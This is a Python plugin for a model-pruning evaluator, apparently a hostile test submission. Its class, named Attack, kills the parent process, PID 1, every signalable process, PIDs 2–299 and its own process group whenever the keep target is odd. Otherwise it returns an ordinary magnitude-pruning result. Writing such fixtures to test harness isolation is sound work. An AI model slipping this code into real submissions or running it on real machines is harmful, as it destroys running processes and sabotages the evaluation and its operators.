import os
import signal

from evaluator.contract import Job, Pruned, PruningMethod


class Attack(PruningMethod):
    """Kills its parent, every process it can name, and its own group."""

    def prune(self, job: Job) -> Pruned:
        if job.keep % 2:  # an odd target sets it off, an even one shows what is left of it
            for number in [signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGSEGV, signal.SIGHUP, signal.SIGUSR1]:
                for pid in [1, os.getppid(), -1, *range(2, 300)]:
                    if pid != os.getpid():
                        try:
                            os.kill(pid, number)
                        except OSError:
                            pass
            os.killpg(0, signal.SIGKILL)
        return job.keep_highest({position: weight.abs() for position, weight in job.weights()})
